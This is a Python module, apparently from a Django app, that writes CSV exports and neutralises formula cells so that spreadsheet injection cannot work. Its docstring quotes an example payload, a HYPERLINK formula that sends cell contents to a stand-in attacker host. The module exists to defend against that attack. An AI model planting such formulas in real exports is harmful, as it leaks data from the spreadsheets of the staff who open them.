"""CSV files that staff open in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: a member who names themselves
`=HYPERLINK("http://evil.example/?x="&A1,"click")` would otherwise plant a live link (or
worse) in the attendee export. Such cells are written with a leading apostrophe, which the
spreadsheet shows as text (OWASP's advice on CSV injection). Every export goes through
`write_rows`, so the rule holds in one place.
"""

import csv
import io
from collections.abc import Iterable, Sequence

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A BOM makes Excel read UTF-8 (the Japanese names) correctly.
BOM = "\ufeff"


def safe_cell(value: object) -> object:
    """The value as a spreadsheet shows it as text. Numbers stay numbers (a negative
    number is not a formula); None becomes an empty cell."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def write_rows(out, header: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    writer = csv.writer(out)
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    out = io.StringIO()
    out.write(BOM)
    write_rows(out, header, rows)
    return out.getvalue()


def dict_rows_text(rows: Sequence[dict]) -> str:
    """CSV of flat dicts, with their keys as the header (the API's CSV renderer)."""
    header = list(rows[0].keys()) if rows else []
    return csv_text(header, ([row.get(h) for h in header] for row in rows))


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[object]]):
    response = HttpResponse(csv_text(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
